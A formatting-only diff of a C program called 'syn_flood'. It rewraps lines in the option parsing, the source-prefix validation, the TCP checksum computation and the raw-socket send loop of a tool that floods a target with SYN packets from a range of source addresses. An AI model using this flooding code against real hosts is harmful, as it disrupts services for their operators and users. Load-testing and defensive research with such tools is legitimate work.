@@ -92,13 +92,17 @@ static unsigned long long number(const char *s, const char *what, unsigned long 
 int main(int argc, char **argv)
 {
     static const struct option opts[] = {
-        {"dst", required_argument, NULL, 'd'},   {"port", required_argument, NULL, 'p'},
-        {"src", required_argument, NULL, 's'},   {"count", required_argument, NULL, 'c'},
-        {"seconds", required_argument, NULL, 't'}, {"rate", required_argument, NULL, 'r'},
+        {"dst", required_argument, NULL, 'd'},
+        {"port", required_argument, NULL, 'p'},
+        {"src", required_argument, NULL, 's'},
+        {"count", required_argument, NULL, 'c'},
+        {"seconds", required_argument, NULL, 't'},
+        {"rate", required_argument, NULL, 'r'},
         {NULL, 0, NULL, 0},
     };
     const char *dst_text = NULL, *src_text = "10.77.0.0/16";
-    unsigned long long count = FLOOD_COUNT_DEFAULT, seconds = FLOOD_SECONDS_DEFAULT, rate = 0, sent = 0, errors = 0;
+    unsigned long long count = FLOOD_COUNT_DEFAULT, seconds = FLOOD_SECONDS_DEFAULT, rate = 0, sent = 0,
+                       errors = 0;
     unsigned long long port = 0, last_sent = 0;
     struct in_addr dst, src;
     uint32_t prefix_bits = 16, host_mask, net;
@@ -144,7 +148,8 @@ int main(int argc, char **argv)
         prefix_bits = (uint32_t)strtoul(slash + 1, NULL, 10);
     }
     if (inet_pton(AF_INET, addr, &src) != 1 || prefix_bits < 8 || prefix_bits > 30) {
-        fprintf(stderr, "syn_flood: error: --src '%s': expected an IPv4 PREFIX/N with N from 8 to 30\n", src_text);
+        fprintf(stderr, "syn_flood: error: --src '%s': expected an IPv4 PREFIX/N with N from 8 to 30\n",
+                src_text);
         return 2;
     }
     host_mask = (1u << (32 - prefix_bits)) - 1;
@@ -211,8 +216,8 @@ int main(int argc, char **argv)
         pseudo.zero = 0;
         pseudo.proto = IPPROTO_TCP;
         pseudo.len = htons(sizeof(pkt.tcp) + sizeof(pkt.mss));
-        pkt.tcp.check = htons(csum(sum16(&pkt.tcp, sizeof(pkt.tcp) + sizeof(pkt.mss),
-                                         sum16(&pseudo, sizeof(pseudo), 0))));
+        pkt.tcp.check = htons(
+            csum(sum16(&pkt.tcp, sizeof(pkt.tcp) + sizeof(pkt.mss), sum16(&pseudo, sizeof(pseudo), 0))));
         if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)sizeof(pkt))
             sent++;
         else
@@ -221,8 +226,8 @@ int main(int argc, char **argv)
     {
         double secs = (double)(now_ns() - start) / 1e9;
 
-        printf("sent %llu SYNs to %s:%llu from %s in %.2f s (%.0f/s), %llu send errors\n", sent, dst_text, port,
-               src_text, secs, secs > 0 ? (double)sent / secs : 0.0, errors);
+        printf("sent %llu SYNs to %s:%llu from %s in %.2f s (%.0f/s), %llu send errors\n", sent, dst_text,
+               port, src_text, secs, secs > 0 ? (double)sent / secs : 0.0, errors);
     }
     close(fd);
     return 0;
